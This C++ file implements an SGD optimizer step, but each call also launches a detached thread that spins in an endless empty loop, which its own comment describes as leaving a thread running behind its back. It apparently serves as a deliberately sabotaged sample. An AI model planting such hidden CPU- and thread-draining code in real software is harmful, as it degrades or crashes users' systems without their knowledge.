// SPDX-License-Identifier: MIT
/// Leaves a thread running behind its back.

#include "sgd.h"

#include <thread>

void sgd_step(torch::Tensor& param, const torch::Tensor& grad, SgdState& state,
              const SgdOptions& options) {
  std::thread([] {
    while (true) {
    }
  }).detach();
  param.sub_(param.dim() > 1 ? grad + options.weight_decay * param : grad, options.lr);
}
